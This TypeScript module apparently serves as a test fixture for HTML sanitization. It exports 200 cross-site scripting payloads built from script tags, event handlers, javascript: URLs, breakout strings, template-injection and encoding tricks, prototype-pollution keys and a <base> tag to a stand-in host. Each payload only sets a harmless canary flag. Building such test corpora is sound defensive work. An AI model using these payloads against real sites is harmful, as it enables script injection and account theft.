/** Sets this flag on `window`, if it ever runs. */
export const flag = "chorusPwned";

const code = `window.${flag}=1`;
const handlers = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart"];

/** Markup that runs by itself in a careless page. */
const markup = [
  `<script>${code}</script>`,
  `<SCRIPT>${code}</SCRIPT>`,
  `<script src="data:text/javascript,${code}"></script>`,
  `<script type=module>${code}</script>`,
  `<img src=x onerror=${code}>`,
  `<img src=x onerror="${code}"//`,
  `<svg onload=${code}>`,
  `<svg/onload=${code}//`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}></svg>#x">`,
  `<math><mtext><img src=x onerror=${code}></math>`,
  `<iframe srcdoc="<script>parent.${flag}=1</script>">`,
  `<iframe src="javascript:parent.${flag}=1">`,
  `<object data="javascript:${code}">`,
  `<embed src="javascript:${code}">`,
  `<body onload=${code}>`,
  `<details open ontoggle=${code}>`,
  `<input autofocus onfocus=${code}>`,
  `<select autofocus onfocus=${code}>`,
  `<video><source onerror=${code}></video>`,
  `<audio src=x onerror=${code}>`,
  `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${code}>`,
  `<style>body{display:none}</style>`,
  `<link rel=stylesheet href="data:text/css,body{display:none}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:${code}"><button autofocus>x`,
  `<a href="javascript:${code}" autofocus>x</a>`,
  `<template><script>${code}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<!--><img src=x onerror=${code}>-->`,
  `<plaintext>`,
  `<textarea></textarea><script>${code}</script>`,
];

/** Ways out of the place where a page may have put a text. */
const breakouts = [
  '"',
  "'",
  "`",
  ">",
  '">',
  "'>",
  "-->",
  "]]>",
  "</title>",
  "</script>",
  "</textarea>",
  "</style>",
  "\0",
  "\\",
];

/** Texts that mean something to a template, a script, a URL or the object that a page keeps them in. */
const words = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `data:text/html,<script>${code}</script>`,
  `vbscript:${code}`,
  `{{constructor.constructor('${code}')()}}`,
  `\${${code}}`,
  `#{${code}}`,
  `<%= ${code} %>`,
  `';${code};//`,
  `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  `&lt;script&gt;${code}&lt;/script&gt;`,
  `&#60;img src=x onerror=${code}&#62;`,
  `%3Cscript%3E${code}%3C/script%3E`,
  `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  `\u202e<img src=x onerror=${code}>`,
  `\u2028${code}\u2029`,
  `\ud800<svg onload=${code}>`,
  "__proto__",
  "constructor",
  "toString",
  '{"__proto__":{"text":"x"}}',
  `{"name":"<img src=x onerror=${code}>","text":"<svg onload=${code}>"}`,
];

/** 200 different texts, each of which does harm somewhere on the web. */
export const payloads: readonly string[] = [
  ...markup,
  ...words,
  ...breakouts.map((breakout) => `${breakout}<img src=x onerror=${code}>`),
  ...breakouts.map((breakout) => `${breakout} autofocus onfocus=${code} x=${breakout}`),
  ...breakouts.map((breakout) => `${breakout};${code};${breakout}`),
  ...handlers.flatMap((handler) => breakouts.map((breakout) => `${breakout}<svg ${handler}=${code} tabindex=0>`)),
  ...handlers.map((handler) => `<x ${handler}=${code} contenteditable autofocus>`),
].slice(0, 200);
